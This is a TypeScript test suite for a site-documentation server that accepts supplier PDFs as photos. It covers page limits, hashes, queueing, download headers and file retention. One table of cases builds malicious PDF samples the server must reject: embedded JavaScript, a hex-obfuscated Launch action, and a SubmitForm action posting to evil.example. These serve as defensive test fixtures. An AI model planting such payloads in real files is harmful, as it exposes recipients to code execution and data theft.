/** Sheets of suppliers: PDF files through the door of the photos (contract, Photos). */
import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { Turns } from '../../server/photos/sheets/turns.ts';
import type { JsonObject } from '../../shared/base/json.ts';
import { photosOf as photosOfContent } from '../../server/followers/export-photos.ts';
import { filesInUse } from '../../server/store/records/ended.ts';
import { bareDevice, create } from '../kit/bare-device.ts';
import { png } from '../rest/support/images.ts';
import { openSite, photosOf, type Site } from '../rest/support/site.ts';
import { pdfFile } from './pdf-files.ts';
import { exif, jpegWith } from './pictures.ts';

let site: Site;
beforeAll(async () => {
  site = await openSite('sqlite', { isFurnished: false, exportsByHand: true });
});
afterAll(() => site[Symbol.asyncDispose]());

const script = '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>';
const encrypted = `/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${'00'.repeat(32)}>/U<${'00'.repeat(32)}>>>/ID[<00><00>]`;

const unusual = (packing: object) => pdfFile({ catalog: script, isPacked: true, packing });
const twice = (content: Buffer): Buffer => deflateSync(deflateSync(content));

async function newSite(name: string): Promise<string> {
  const { id: project_id } = await site.must('createProject', { body: { name } });
  return (await site.must('createSite', { body: { project_id, name } })).id;
}

test('[BL20] a PDF is kept as it was sent, with the number of its pages', async () => {
  const sheet = pdfFile({ pages: 3 });
  const sha256 = createHash('sha256').update(sheet).digest('hex');
  const params = { site: await newSite('Yard') };
  const { data } = await site.must('uploadPhotos', { params, body: photosOf(sheet) });
  expect(data).toMatchObject([{ media_type: 'application/pdf', pages: 3, bytes: sheet.length, sha256, width: null }]);
  // The same from a device, whose command says only what it is called.
  const other = pdfFile({ pages: 2, words: 'Drawing' });
  const name = createHash('sha256').update(other).digest('hex');
  const device = bareDevice(site.world, await site.world.token('device'));
  const sent = await fetch(new URL(`/api/v1/sync/blobs/${name}`, site.world.url), {
    method: 'PUT',
    body: other,
    headers: { authorization: `Bearer ${site.world.adminToken}` },
  });
  expect([sent.status, await sent.json()]).toMatchObject([200, { complete: true }]);
  const id = site.world.app.commitContext.newId();
  const command = { site_id: params.site, sha256: name, file_name: 'drawing.pdf' };
  expect(await device.push([create('photo', id, command)])).toMatchObject([{ status: 'applied' }]);
  const listed = (await site.must('listSitePhotos', { params })).data;
  expect(listed.find((each) => each.id === id)).toMatchObject({ pages: 2, media_type: 'application/pdf' });
});

test('[EX202] of a photo that a version names with its SHA-256 no other file is printed', async () => {
  const params = { site: await newSite('Sealed') };
  const { data } = await site.must('uploadPhotos', { params, body: photosOf(pdfFile(), pdfFile({ words: 'Other' })) });
  const [approved, other] = data;
  const id = String(other?.id);
  const sha256 = String(approved?.sha256);
  expect(await printedAt(params.site, { id, sha256 })).toMatchObject({ [id]: { path: sha256, sha256 } });
  expect(await printedAt(params.site, { id })).toMatchObject({ [id]: { sha256: other?.sha256 } });
});

test('[EX203] a photo named without a SHA-256 gets that of its file, if it is at the site', async () => {
  const params = { site: await newSite('Named') };
  const { data } = await site.must('uploadPhotos', { params, body: photosOf(pdfFile({ words: 'Named' })) });
  const elsewhere = { site: await newSite('Elsewhere') };
  const others = await site.must('uploadPhotos', { params: elsewhere, body: photosOf(pdfFile({ words: 'Apart' })) });
  const [photo, other] = [data[0], others.data[0]].map((each) => ({ id: String(each?.id) }));
  const { project_id } = await site.must('getSite', { params });
  const body = { title: 'Curtain walling', document_type: 'rams', project_id, site_id: params.site } as const;
  const document = { document: (await site.must('createDocument', { body })).id };
  const named = [photo, other].filter((each) => each !== undefined);
  const hashes = [data[0]?.sha256, undefined];
  const section = await site.must('createSection', { params: document, body: { title: 'Seen', photos: named } });
  expect(section.photos?.map(({ sha256 }) => sha256)).toEqual(hashes);
  const hazard = await site.must('createHazard', { params: document, body: { name: 'Edge' } });
  const changed = { params: { ...document, id: hazard.id }, body: { photos: named } };
  expect((await site.must('updateHazard', changed)).photos?.map(({ sha256 }) => sha256)).toEqual(hashes);
});

test('[EX204] a photo named by the file that a tablet sent is printed as the server keeps it', async () => {
  const at = await newSite('Sent');
  const sent = jpegWith(exif(1));
  const sha256 = createHash('sha256').update(sent).digest('hex');
  await fetch(new URL(`/api/v1/sync/blobs/${sha256}`, site.world.url), {
    method: 'PUT',
    body: Uint8Array.from(sent),
    headers: { authorization: `Bearer ${site.world.adminToken}` },
  });
  const id = site.world.app.commitContext.newId();
  const device = bareDevice(site.world, await site.world.token('device'));
  await device.push([create('photo', id, { site_id: at, sha256, file_name: null })]);
  const [kept] = (await site.must('listSitePhotos', { params: { site: at } })).data;
  expect(kept?.sha256).not.toBe(sha256);
  expect(await printedAt(at, { id, sha256 })).toMatchObject({ [id]: { sha256: kept?.sha256 } });
});

/** What a version at this site prints of a photo that it names. */
function printedAt(siteId: string, photo: JsonObject) {
  const { store } = site.world.app.commitContext;
  const content = { site_id: siteId, sections: [{ photos: [photo] }] };
  return photosOfContent(store.db, { pathOf: (_, name) => name }, site.world.organisationId, content);
}

test('[BL24] what a portal wrote before the header of a PDF is no reason to refuse it', async () => {
  const params = { site: await newSite('Portal') };
  const before = Uint8Array.from([...Buffer.from('\r\n\ufeffDownloaded 12:00\n'), ...pdfFile()]);
  const { data } = await site.must('uploadPhotos', { params, body: photosOf(before) });
  expect(data).toMatchObject([{ pages: 1, bytes: before.length }]);
  const late = Uint8Array.from([...Buffer.alloc(1100, ' '), ...pdfFile()]);
  expect((await site.call('uploadPhotos', { params, body: photosOf(late) })).status).toBe(415);
});

test('[BL25] sheets are read in turns of the organisations, and few of one may wait', async () => {
  const turns = new Turns();
  const read: string[] = [];
  const take = (who: string) => turns.take(who, async () => void read.push(who));
  const { promise: held, resolve: letGo } = Promise.withResolvers<void>();
  const all = [turns.take('a', () => held), ...['a', 'a', 'a', 'a', 'b'].map(take)];
  await expect(take('a')).rejects.toMatchObject({ code: 'unavailable', members: { retry_after: 10 } });
  letGo();
  await Promise.all(all);
  expect(read.join('')).toBe('abaaa');
  await take('a');
});

test.each([
  ['a script', pdfFile({ catalog: script }), 'script'],
  ['a script that a search of the bytes does not find', pdfFile({ catalog: script, isPacked: true }), 'script'],
  ['a start of a program, spelt by its codes', pdfFile({ catalog: '/OpenAction<</S/L#61unch/F(run)>>' }), 'starts'],
  ['a script in a stream of two layers', unusual({ filter: '[/FlateDecode/FlateDecode]', encode: twice }), 'damaged'],
  ['a script in a stream with another object’s mark', unusual({ more: '/X(obj)' }), 'damaged'],
  ['a script in a stream with a bare line end', unusual({ mark: 'stream\r' }), 'damaged'],
  ['an action that sends', pdfFile({ catalog: '/OpenAction<</S/SubmitForm/F(http://evil.example)>>' }), 'sends'],
  ['a model with a script', pdfFile({ catalog: '/X<</Subtype/3D/OnInstantiate 3 0 R>>' }), 'script'],
  ['protection', pdfFile({ trailer: encrypted }), 'protected'],
  ['a cut end', pdfFile({ pages: 9 }).slice(0, 700), 'damaged'],
  ['no content', Uint8Array.from(Buffer.from('%PDF-1.7\nnothing of a PDF')), 'damaged'],
])('[BL21] a PDF with %s is refused in words', async (_what, bytes, word) => {
  const params = { site: await newSite(`Refused for ${word}`) };
  const answer = await site.call('uploadPhotos', { params, body: photosOf(bytes) });
  expect([answer.status, answer.text]).toEqual([415, expect.stringContaining(word)]);
  expect((await site.must('listSitePhotos', { params })).data).toEqual([]);
});

test('[BL21] a PDF may have 60 pages and no more, and a packed one that does nothing passes', async () => {
  const params = { site: await newSite('Long') };
  const files = photosOf(pdfFile({ pages: 60 }), pdfFile({ isPacked: true }));
  expect((await site.must('uploadPhotos', { params, body: files })).data).toMatchObject([{ pages: 60 }, { pages: 1 }]);
  const answer = await site.call('uploadPhotos', { params, body: photosOf(pdfFile({ pages: 61 })) });
  expect([answer.status, answer.text]).toEqual([422, expect.stringContaining('60 pages or fewer; this one has 61')]);
});

test('[BL22] a sheet is served as a download that no browser takes for a page', async () => {
  const params = { site: await newSite('Served') };
  const [photo] = (await site.must('uploadPhotos', { params, body: photosOf(pdfFile()) })).data;
  const { status, headers } = await site.world.api('GET', `/api/v1/photos/${photo?.id}`);
  expect([status, headers.get('content-type'), headers.get('x-content-type-options')]).toEqual([
    200,
    'application/pdf',
    'nosniff',
  ]);
  expect(headers.get('content-disposition')).toMatch(/^attachment; filename\*=UTF-8''photo%201/);
});

test('[BL23] a file stays while anybody needs it: a sent photo, a sheet that was an export', async () => {
  const params = { site: await newSite('Shared') };
  const picture = png(17);
  const sha256 = createHash('sha256').update(picture).digest('hex');
  const logo = new FormData();
  logo.append('logo', new Blob([picture]), 'logo.png');
  await site.must('uploadLogo', { body: logo });
  await fetch(new URL(`/api/v1/sync/blobs/${sha256}`, site.world.url), {
    method: 'PUT',
    body: picture,
    headers: { authorization: `Bearer ${site.world.adminToken}` },
  });
  await site.must('removeLogo');
  const id = site.world.app.commitContext.newId();
  const device = bareDevice(site.world, await site.world.token('device'));
  await device.push([create('photo', id, { site_id: params.site, sha256, file_name: null })]);
  expect((await site.world.api('GET', `/api/v1/photos/${id}`)).status).toBe(200);

  const made = { params: { document: (await site.approved()).id }, body: { format: 'pdf' } };
  const { id: file } = await site.must('exportDocument', made);
  await site.world.app.exports.run();
  const { download_url: url } = await site.must('getExport', { params: { export: file } });
  const printed = new Uint8Array(await (await fetch(String(url))).arrayBuffer());
  const [sheet] = (await site.must('uploadPhotos', { params, body: photosOf(printed) })).data;
  const { store } = site.world.app.commitContext;
  const inUse = await filesInUse(store.db, site.world.organisationId, [sheet?.sha256 ?? ''], [file]);
  expect([...inUse]).toEqual([sheet?.sha256]);
});
